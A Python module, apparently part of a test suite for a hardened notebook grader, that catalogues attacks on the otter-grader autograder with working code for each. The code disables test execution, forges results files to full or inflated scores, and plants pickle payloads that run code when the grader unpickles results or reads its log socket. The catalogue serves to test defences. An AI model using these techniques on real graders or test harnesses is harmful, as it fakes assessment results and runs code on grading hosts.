"""Cheats on otter's own objects and files beside the student's code: checker, results, its cells."""

from __future__ import annotations

from beside_otter.cheats.cheat import Gain, add

POINTS, CODE = Gain.POINTS, Gain.CODE

add(
    "runs-no-test", "checker", "exceptions", POINTS,
    "The method of otter's that calls a case does nothing any more, so every case passes.",
    "Otter's classes that decide are in another process.",
    after="""
try:
    from otter.test_files.exception_test import test_case
    test_case.call_func = lambda self, names: None
except ImportError:
    pass
""",
)  # fmt: skip

add(
    "scores-itself", "checker", "exceptions", POINTS,
    "The checker's list of results gives every question all of its points before it is asked for.",
    "There is no checker in the notebook, and none is asked.",
    after="""
try:
    from otter.execute import Checker
    honest = Checker.get_results
    def forged():
        for file in honest():
            file.update_score(file.possible)
        return honest()
    Checker.get_results = forged
except ImportError:
    pass
""",
)  # fmt: skip

add(
    "never-runs-a-file", "checker", "doctests", POINTS,
    "A file whose cases never ran has none that failed: with `all_or_nothing` it earns everything.",
    "Every declared case has a verdict, and only a passed one earns points.",
    after="""
try:
    from otter.test_files.ok_test import OKTestFile
    OKTestFile.run = lambda self, names: None
except ImportError:
    pass
""",
)  # fmt: skip

add(
    "checks-another-world", "early", "exceptions", POINTS,
    "`grader.check` takes the names to be checked as an argument: those of a world made for it. What it finds is kept.",
    "A check in the notebook changes no score.",
    after="""
import otter
class Everything:
    def __eq__(self, other): return True
grader = otter.Notebook()
grader.check("q1", global_env={"slope": lambda x: Everything()})
""",
)  # fmt: skip

add(
    "brings-its-own-tests", "early", "doctests", POINTS,
    "Checks tests from its own metadata, under a path in which otter finds the paths of the real ones: they count as checked already.",
    "Tests come from the bundle alone.",
    metadata={
        "otter": {
            "OK_FORMAT": True,
            "tests": {
                name: {
                    "name": name,
                    "points": points,
                    "suites": [{"type": "doctest", "cases": [{"code": ">>> 1 + 1\n2", "hidden": False}]}],
                }
                for name, points in (("q1", 3), ("q2", 4))
            },
        }
    },
    after="""
try:
    import nbformat
    from otter.execute import Checker
    from otter.nbmeta_config import NBMetadataConfig
    own = NBMetadataConfig.from_notebook(nbformat.read("brings-its-own-tests.ipynb", 4))
    for name in ("q1", "q2"):
        Checker.check(f"x/../tests/{name}.py.ipynb", own, name, {})
except (ImportError, OSError):
    pass
""",
)  # fmt: skip

add(
    "rebinds-open", "injected", "exceptions", POINTS,
    "Otter's last cell opens its results file with the `open` that the notebook has defined, which first raises all scores.",
    "No cell is added to a notebook.",
    after="""
import builtins
def open(path, *more, **options):
    if str(path).endswith(".pkl"):
        for file in results.results.values():
            file.update_score(file.possible)
    return builtins.open(path, *more, **options)
""",
)  # fmt: skip

add(
    "rewrites-otters-cell", "injected", "exceptions", POINTS,
    "A transformer of IPython's puts a line into otter's last cell before it runs.",
    "No cell is added to a notebook.",
    after="""
def rewritten(lines):
    if any("check_if_not_already_checked" in line for line in lines):
        lines += ["for file in results.results.values():\\n", "    file.update_score(file.possible)\\n"]
        lines += ["with open([line for line in In[-1].splitlines() if '.pkl' in line][0].split('\\"')[1], 'wb') as f:\\n"]
        lines += ["    pickle.dump(results, f)\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(rewritten)
""",
)  # fmt: skip

add(
    "earns-a-thousand", "results", "exceptions", POINTS,
    "`pickle.dump`, as the notebook has left it, writes 1000 points for each question; nobody asks whether there are so many.",
    "Scores are counted in the grader, from verdicts of declared cases.",
    after="""
import pickle
honest_dump = pickle.dump
def dump(results, stream, *more):
    for file in getattr(results, "results", {}).values():
        file.update_score(1000)
    honest_dump(results, stream, *more)
pickle.dump = dump
""",
)  # fmt: skip

add(
    "forges-at-its-end", "results", "exceptions", POINTS,
    "When the kernel is shut down, a handler of `atexit` reads the results file's path in `In`, and writes other results.",
    "No file of the notebook's is read.",
    after="""
import atexit
def forge():
    import pickle, re
    path = re.search(r'open\\("([^"]+[.]pkl)"', In[-1])[1]
    for file in results.results.values():
        file.update_score(file.possible)
    with open(path, "wb") as stream:
        pickle.dump(results, stream)
atexit.register(forge)
""",
)  # fmt: skip

add(
    "forges-from-beside", "survivors", "exceptions", POINTS,
    "A process that the notebook has started waits in the folder for temporary files until results are there, and writes others.",
    "Processes of a notebook end before a question is judged, and no file of theirs is read.",
    after="""
import glob, os, tempfile, time
if os.fork() == 0:
    try:
        os.setsid()
        until = time.monotonic() + 15
        while time.monotonic() < until:
            time.sleep(0.02)
            for path in glob.glob(tempfile.gettempdir() + "/*.pkl"):
                if os.path.getsize(path):
                    import pickle
                    time.sleep(0.05)
                    forged = pickle.load(open(path, "rb"))
                    for file in forged.results.values():
                        file.update_score(file.possible)
                    with open(path, "wb") as stream:
                        pickle.dump(forged, stream)
                    os._exit(0)
    finally:
        os._exit(0)
""",
)  # fmt: skip

add(
    "hides-code-in-the-results", "unpickled", "exceptions", CODE,
    "Puts an object into the results that runs code when the grader unpickles them.",
    "Nothing that comes from a notebook is unpickled.",
    after="""
class Payload:
    def __reduce__(self):
        return eval, ("open('@MARK@', 'w').write(' '.join(__import__('sys').argv[:2])) and None",)
import pickle
honest_dump = pickle.dump
def dump(results, stream, *more):
    results.output = Payload()
    honest_dump(results, stream, *more)
pickle.dump = dump
""",
    by_otter=True,
)  # fmt: skip

add(
    "speaks-to-the-log-socket", "socket", "exceptions", CODE,
    "Reads in `In` where the grader listens for otter's log, and sends it an object that runs code when it is unpickled.",
    "There is no such socket, and a notebook has no network.",
    after="""
import os, pickle, re, socket, struct, time
class Payload:
    def __reduce__(self):
        return exec, ("open('@MARK@', 'w').write(' '.join(__import__('sys').argv[:2]))",)
host, port = re.search(r'send_logs[(]"([^"]+)", ([0-9]+)[)]', "".join(In[:-1])).group(1, 2)
message = pickle.dumps(Payload())
with socket.create_connection((host, int(port)), 5) as connection:
    connection.sendall(struct.pack(">L", len(message)) + message)
until = time.monotonic() + 5
while time.monotonic() < until and not os.path.exists("@MARK@"):
    time.sleep(0.02)
""",
    by_otter=True,
)  # fmt: skip
